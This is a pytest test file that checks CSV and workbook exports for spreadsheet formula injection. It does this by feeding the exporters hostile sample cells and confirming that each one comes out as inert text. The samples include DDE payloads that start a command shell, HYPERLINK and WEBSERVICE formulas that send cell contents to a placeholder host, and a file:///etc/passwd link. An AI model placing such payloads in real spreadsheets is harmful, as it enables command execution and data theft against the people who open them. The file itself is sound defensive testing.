"""No cell of any CSV or workbook that leaves the house is a formula or a link, and each says what it said."""

import csv
import io
import json
import zipfile
from itertools import product

import pandas as pd
import pytest
from openpyxl import load_workbook

from pipelines.label_studio.export_table import write_export_table
from pipelines.reports.sheets import csv_bytes, xlsx_bytes

RUNNING = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("https://elsewhere.example?x="&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("https://elsewhere.example/"&A1)',
    '=IMPORTXML("https://elsewhere.example","//a")',
    '=IMAGE("https://elsewhere.example/p.png")',
    "={1,2}",
    '="a"&"b"',
    "-3℃",
    "+阳性",
    "=",
    "-",
)
# what a program takes off, or reads over, before it looks at the first sign
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\ufeff")
WIDE = ("＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "\u3000=1+1", "\u200b=1+1", "\u202e=1+1", "'=1+1", "''")
LINKS = (
    *("https://elsewhere.example", "mailto:a@b.example", "ftp://elsewhere.example"),
    *("internal:Sheet2!A1", "external:x.xlsx", "file:///etc/passwd"),
)
CELLS = (*(before + each for before, each in product(BEFORE, RUNNING)), *WIDE, *LINKS)
HARMLESS = ("疗程3~5天", "a=b", "3-5", "1+1=2", "", "5", "x@y.example", "【=】")


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet might run it, judged apart from the code: by what is left of blanks and marks."""
    bare = cell.strip().strip("\u200b\u202e\ufeff\u00a0\u3000").strip()
    return bare[:1] in tuple("=+-@＝＋－＠") or cell[:1] in tuple("\t\r\n")


def told(text: str) -> str:
    """The text with its line ends as line feeds."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_there_are_more_dangerous_cells_than_a_handful():
    assert len(set(CELLS)) > 100 and sum(map(dangerous, CELLS)) > 57


@pytest.fixture
def table():
    """Dangerous texts as cells, as a column's name, in a column of mixed kinds, in a category."""
    texts = [*CELLS, *HARMLESS]
    return pd.DataFrame(
        {
            "text": texts,
            "=1+1": pd.Categorical(texts),
            "mixed": [text if n % 2 else -n for n, text in enumerate(texts)],
            "string": pd.array(texts, dtype="string"),
            "number": [-float(n) for n in range(len(texts))],
        }
    )


def test_a_csv_holds_no_dangerous_cell_and_taking_one_apostrophe_off_gives_the_text_back(table):
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row[:4]]
    numbers = {str(value) for value in table["mixed"]}
    assert [cell for cell in cells if dangerous(cell) and cell not in numbers] == []
    assert rows[0] == ["text", "'=1+1", "mixed", "string", "number"]
    for text, row in zip(table["text"], rows[1:], strict=True):
        assert row[0].removeprefix("'") == row[1].removeprefix("'") == row[3].removeprefix("'") == told(text)
    assert [row[0] for row in rows[1:]][-len(HARMLESS) :] == list(HARMLESS)
    assert [float(row[4]) for row in rows[1:]] == list(table["number"])


def test_a_workbook_holds_texts_as_they_were_no_formula_and_no_link(table):
    content = xlsx_bytes({"sheet": table})
    sheet = load_workbook(io.BytesIO(content))["sheet"]
    assert formulas_and_links(content) == []
    for text, row in zip(table["text"], sheet.iter_rows(min_row=2), strict=True):
        # a workbook has nothing for an empty text
        assert told((row[0].value or "").replace("_x000D_", "\r")) == told(text)


def formulas_and_links(content: bytes) -> list[str]:
    """Every formula and link of a workbook, from the parsed cells and from the raw parts."""
    book = load_workbook(io.BytesIO(content))
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or cell.hyperlink
    ]
    archive = zipfile.ZipFile(io.BytesIO(content))
    raw = b"".join(archive.read(name) for name in archive.namelist() if "worksheets" in name)
    return found + [mark for mark in ("<f>", "<f ", "<hyperlink") if mark.encode() in raw]


def test_a_workbook_with_formulas_would_be_found():
    from openpyxl import Workbook

    book, file = Workbook(), io.BytesIO()
    book.active["A1"] = "=1+1"
    book.save(file)
    assert formulas_and_links(file.getvalue()) == ["Sheet!A1", "<f>"]


def test_a_foreign_export_as_a_table_is_guarded_too(tmp_path):
    result = lambda cell: {"type": "textarea", "from_name": "=1", "value": {"text": [cell]}}  # noqa: E731
    tasks = [
        {
            "id": "=2",
            "annotations": [{"completed_by": {"email": "=3"}, "result": [result(cell) for cell in CELLS]}],
        }
    ]
    tasks = json.loads(json.dumps(tasks))
    assert write_export_table(tasks, tmp_path / "out.csv") == (len(CELLS), 0)
    content = (tmp_path / "out.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert [cell for row in rows for cell in row if dangerous(cell)] == []
    assert [row[3].removeprefix("'") for row in rows[1:]] == list(map(told, CELLS))
